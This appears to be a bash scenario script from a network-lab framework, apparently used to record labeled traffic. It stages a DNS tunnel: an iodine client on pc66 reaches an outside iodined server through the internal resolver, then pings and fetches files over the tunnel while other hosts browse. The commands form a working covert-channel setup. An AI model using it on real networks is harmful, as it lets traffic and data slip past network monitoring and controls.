# shellcheck shell=bash disable=SC2034
TITLE='iodine: IP over DNS through the inside resolver'
KIND=attack
ATTACKER=(10.20.1.66)
VICTIMS=(10.20.1.66)
NEEDS=(web intra)
PROGRAMS=(iodine unbound nsd nginx-light curl)
ORIGIN='pc66 runs "iodine -r -L0 t.backup-sync.example" through the resolver 10.20.0.53, which asks iodined on 203.0.113.53; inside the tunnel go pings and nine small HTTP downloads. The capture point sees both pc66 to resolver and resolver to outside. pc11 to pc13 browse meanwhile. The misused host is attacker and victim at once. Times as recorded.'

attack() {
  local s c w
  spawn tun iodined -f -c -P tunnelpass 10.99.0.1/24 t.backup-sync.example
  s=$SPAWNED
  sleep 1
  spawn tun python3 -m http.server -b 10.99.0.1 -d "$W/www/public" 8080
  w=$SPAWNED
  spawn pc66 iodine -f -r -L0 -P tunnelpass t.backup-sync.example
  c=$SPAWNED
  for _ in $(seq 60); do ip -n "${NS}pc66" addr show dns0 2>/dev/null | grep -q 10.99 && break; sleep 0.5; done
  sleep 2
  on pc66 ping -c 30 -i 0.5 10.99.0.1
  local p
  for p in {about,shop,index}.html report.txt img/{photo,vase,logo}.png news/ report.txt; do
    on pc66 curl -sS -m 30 -o /dev/null "http://10.99.0.1:8080/$p"
    sleep 1
  done
  sleep 5
  kill "$c" "$s" "$w"
}

scenario() { with_life 'pc11 pc12 pc13' attack; }
